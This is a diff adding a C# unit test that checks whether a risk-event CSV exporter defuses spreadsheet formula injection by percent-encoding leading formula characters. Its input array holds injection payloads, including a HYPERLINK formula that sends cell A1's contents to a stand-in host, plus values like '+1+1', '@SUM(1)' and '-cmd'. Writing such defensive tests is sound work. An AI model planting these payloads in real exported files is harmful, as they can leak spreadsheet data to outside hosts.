@@ -84,6 +84,26 @@ public sealed class RiskGeneratorTests
     }
 
     [Fact]
+    public void A_value_a_spreadsheet_would_run_as_a_formula_is_written_inert_and_stays_a_distinct_key()
+    {
+        // The device fingerprint is whatever the paying client sends: opened in a spreadsheet, the analysts' labels ran it.
+        var at = new DateTimeOffset(2026, 12, 7, 10, 0, 0, TimeSpan.Zero);
+        string[] devices = ["=HYPERLINK(\"http://x/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(1)", "\tx", "%3D1", "=1", "a=b-c"];
+        var rows = devices.Select((d, i) => new LabelledRiskEvent(new RiskEvent($"p-{i}", at, "b-1", at, "c-1", "DE", d, "10.0.0.1", "DE",
+            "a-1", "DE", 100, i == 0 ? "-cmd" : "books", RiskOutcome.Approved), false)).ToArray();
+
+        var text = Csv(rows);
+        var read = RiskCsv.Read(new StringReader(text), requireLabel: true);
+
+        var cells = text.Split('\n', StringSplitOptions.RemoveEmptyEntries).Skip(1).SelectMany(l => l.Split(',')).ToArray();
+        Assert.DoesNotContain(cells, c => c.Length > 0 && c[0] is '=' or '+' or '-' or '@' or '\t' or '\r');
+        Assert.Equal(["%3DHYPERLINK(%22http://x/?%22&A1%2C%22x%22)", "%2B1+1", "%2D2+3", "%40SUM(1)", "%09x", "%253D1", "%3D1", "a=b-c"],
+            read.Select(r => r.Event.DeviceFingerprint));
+        Assert.Equal(devices.Length, read.Select(r => r.Event.DeviceFingerprint).Distinct().Count());
+        Assert.Equal("%2Dcmd", read[0].Event.SkuCategory);
+    }
+
+    [Fact]
     public void Csv_names_the_missing_columns()
     {
         using var reader = new StringReader("payment_id,occurred_at\np-1,2026-01-01T00:00:00Z\n");
